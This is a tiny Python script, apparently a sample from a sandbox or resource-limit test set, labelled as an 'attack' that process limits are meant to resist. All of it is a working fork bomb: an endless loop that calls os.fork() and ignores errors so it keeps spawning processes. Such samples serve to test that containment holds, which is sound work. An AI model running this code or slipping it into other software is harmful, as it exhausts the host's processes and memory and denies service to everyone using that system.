# attack: forks without end
# resisted from: limits
import os


while True:
    try:
        os.fork()
    except OSError:
        pass
